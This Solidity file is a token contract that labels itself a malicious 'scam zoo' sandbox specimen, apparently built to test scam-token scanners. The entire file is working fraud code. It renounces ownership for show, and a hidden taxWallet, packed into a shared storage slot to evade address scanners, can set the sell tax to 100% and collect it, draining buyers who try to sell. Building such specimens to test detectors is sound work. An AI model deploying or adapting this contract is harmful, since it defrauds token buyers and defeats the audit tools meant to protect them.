// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IZooRouter {
    function factory() external view returns (address);
    function WETH() external view returns (address);
}

interface IZooFactory {
    function createPair(address tokenA, address tokenB) external returns (address);
}

/// @title Packed tax wallet (scam zoo)
/// @notice MALICIOUS sandbox specimen. Ownership is really renounced, but a private taxWallet
///         (not the deployer) shares one storage slot with two counters, so it sits at byte
///         offset 8 of that slot rather than in its low 20 bytes where a slot scanner looks for
///         addresses. Only it may call updateSwapRate, which sets the sell tax up to 100%; the
///         tax goes to it.
contract PackedTax {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    address public owner;
    address public pair;
    uint256 public sellTaxPercent; // a full slot, so the three below start a slot of their own
    // One slot: launchedAt in bytes 0-7 (from the low end), taxWallet in 8-27, epoch in 28-31.
    uint64 private launchedAt;
    address private taxWallet;
    uint32 private epoch;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor(string memory name_, string memory symbol_, uint256 supply, address router,
                address taxWallet_) {
        name = name_;
        symbol = symbol_;
        owner = msg.sender;
        emit OwnershipTransferred(address(0), msg.sender);
        launchedAt = uint64(block.timestamp);
        taxWallet = taxWallet_;
        epoch = 1;
        totalSupply = supply;
        balanceOf[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
        pair = IZooFactory(IZooRouter(router).factory()).createPair(
            address(this), IZooRouter(router).WETH());
    }

    function renounceOwnership() external {
        require(msg.sender == owner, "not the owner");
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function updateSwapRate(uint256 percent) external {
        require(msg.sender == taxWallet, "not allowed");
        require(percent <= 100, "above 100%");
        sellTaxPercent = percent;
        epoch += 1;
    }

    function _transfer(address from, address to, uint256 amount) internal {
        require(to != address(0), "transfer to zero address");
        uint256 balance = balanceOf[from];
        require(balance >= amount, "insufficient balance");
        unchecked { balanceOf[from] = balance - amount; }
        uint256 tax = 0;
        // the owner seeds the pool untaxed; after renouncing nobody is exempt but taxWallet
        if (to == pair && from != owner && from != taxWallet) {
            tax = amount * sellTaxPercent / 100;
            balanceOf[taxWallet] += tax;
            emit Transfer(from, taxWallet, tax);
        }
        balanceOf[to] += amount - tax;
        emit Transfer(from, to, amount - tax);
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        uint256 allowed = allowance[from][msg.sender];
        if (allowed != type(uint256).max) {
            require(allowed >= amount, "insufficient allowance");
            unchecked { allowance[from][msg.sender] = allowed - amount; }
        }
        _transfer(from, to, amount);
        return true;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }
}
